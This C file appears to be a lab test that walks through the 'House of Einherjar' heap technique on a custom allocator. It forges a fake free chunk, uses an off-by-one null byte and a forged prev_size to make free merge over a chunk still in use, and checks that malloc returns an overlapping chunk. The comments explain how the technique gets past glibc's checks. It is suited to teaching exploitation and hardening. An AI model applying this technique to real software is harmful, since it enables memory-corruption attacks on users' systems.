/*
 * house_of_einherjar.c - one null byte past the end of a chunk makes free
 * merge a later chunk backwards into a fake one, over a chunk still in use.
 *
 * An off-by-one write of a zero byte (a string's terminator, one past a
 * buffer) reaches the lowest byte of the next chunk's size, where the
 * PREV_INUSE bit lives: the next chunk now believes its predecessor is free.
 * The 8 bytes before that size are prev_size, also reachable by the buffer,
 * which say where that "free predecessor" starts.  Pointed at a fake chunk in
 * an earlier chunk a, they make free(c) merge c with everything from the
 * fake chunk on, including chunk b in between, which the program still uses.
 * The merged chunk is free, so the next fitting malloc returns it: a chunk
 * overlapping b.  (From there, tcache poisoning through the overlap reaches
 * any address; tcache_poisoning.c shows that step alone.)
 *
 * The fake chunk must survive unlink: fd and bk both point at itself, so each
 * "points back" (checked since 2.23), and its size equals c's prev_size
 * (checked since 2.26 in unlink and since 2.29 in free's backward merge).
 * c is larger than the tcache's largest chunk, so its free consolidates.
 *
 * Works on every release 2.23 ... 2.36.
 */
#include "tests/techniques/technique.h"

int main(void)
{
    technique_begin("house_of_einherjar", "A null byte clears c's PREV_INUSE; c's prev_size points back at a fake "
                                          "chunk; free(c) merges over b, which is still in use.");

    char *a = arenalloc_malloc(0x38);
    char *b = arenalloc_malloc(0x28);
    char *c = arenalloc_malloc(0x4f8);
    char *guard = arenalloc_malloc(0x18);
    say("a = %p (0x40 chunk), b = %p (0x30), c = %p (0x500), and a guard (%p) before top.", (void *)a, (void *)b,
        (void *)c, (void *)guard);

    size_t *fake = (size_t *)a;
    size_t fake_size = (size_t)((char *)chunk_header(c) - (char *)fake);
    fake[0] = 0;
    fake[1] = fake_size;
    fake[2] = (size_t)fake;
    fake[3] = (size_t)fake;
    say("In a's data at %p: a fake free chunk of size %#zx (up to c's header), fd = bk = itself.", (void *)fake,
        fake_size);

    /* LAB(tech-house_of_einherjar) BEGIN */
    *(size_t *)(b + 0x20) = fake_size;
    b[0x28] = '\0';
    /* LAB(tech-house_of_einherjar) END */
    say("b's last 8 bytes are c's prev_size: set to %#zx.  One byte past b, a null byte: c's size %#zx.",
        fake_size, *size_field(c));

    arenalloc_free(c);
    say("free(c): PREV_INUSE is clear, so free merges c with the chunk %#zx bytes before it, the fake chunk.",
        fake_size);
    say("The merged free chunk starts at %p, size %#zx, and covers b.", (void *)fake, fake[1] & ~(size_t)7);

    char *d = arenalloc_malloc(0x558);
    say("d = malloc(0x558) = %p.", (void *)d);

    bool overlaps_b = b >= d && b < d + 0x558;
    return technique_end(d == (char *)fake + 2 * sizeof(size_t) && overlaps_b,
                         "malloc returned the fake chunk, which overlaps b, still in use");
}
